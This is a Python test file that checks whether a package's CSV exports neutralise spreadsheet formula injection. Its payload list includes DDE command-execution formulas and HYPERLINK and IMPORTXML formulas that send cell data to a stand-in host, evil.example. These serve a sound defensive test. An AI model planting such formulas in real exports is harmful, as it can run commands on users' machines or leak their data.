"""Spreadsheet formulas: no CSV cell the package writes can start a formula."""

from __future__ import annotations

import base64
import csv
import io
import re
from datetime import date

from infointerview.export import activity_csv
from infointerview.store import Workspace
from infointerview.ui.networking_log import ExportPanel

from .entered import enter_everywhere
from .payloads import PAYLOADS

TODAY = date(2026, 11, 25)
# What spreadsheets read as the start of a formula (OWASP's list), checked independently of
# the package's own constant.
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click for your results")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+44 20 7946 0958",  # a phone number is harmless, but starts like a formula
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "==1",
    " =1+1 (after a space)",
    "'=already quoted",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"A1")',
)


def csv_files(workspace: Workspace) -> dict[str, bytes]:
    """Every CSV the package writes: the log export, as text and as the download link."""
    panel = ExportPanel(workspace)
    panel.children[0].click()
    links = panel.children[1].value
    downloads = re.findall(r'href="data:text/csv;base64,([^"]+)"', links)
    assert len(downloads) == 1, links
    return {
        "activity_csv()": activity_csv(workspace).encode("utf-8"),
        "the networking log's download link": base64.b64decode(downloads[0]),
    }


def test_no_csv_cell_starts_a_formula(monkeypatch, figures):
    """Every cell of every CSV, read back as a spreadsheet would, starts with something
    other than = + - @ tab or carriage return, and still holds what was typed."""
    monkeypatch.setenv("INFOINTERVIEW_TODAY", TODAY.isoformat())
    with Workspace(":memory:") as workspace:
        entered = enter_everywhere(workspace, FORMULAS + PAYLOADS, today=TODAY, contacts=12)
        files = csv_files(workspace)
        activities = len(workspace.activities())
    # The fields the log's columns show: each must be there, changed by one quote at most.
    in_log = {
        item.text.strip()
        for item in entered
        if item.field in ("activity detail", "contact name", "contact organisation")
    }
    for name, data in files.items():
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        cells = [cell for row in rows[1:] for cell in row]
        unsafe = [cell for cell in cells if cell.startswith(DANGEROUS_STARTS)]
        figures.record("Spreadsheet formulas", name, len(cells), "cells", len(unsafe))
        assert unsafe == []
        assert len(rows) == activities + 1  # nothing lost or split across rows
        shown = set(cells) | {cell[1:] for cell in cells if cell.startswith("'")}
        assert in_log <= shown, in_log - shown
        assert any(text.startswith(DANGEROUS_STARTS) for text in in_log)  # really tried
    figures.note(
        "Spreadsheet formulas", f"{len(FORMULAS)} formulas and {len(PAYLOADS)} payloads typed"
    )
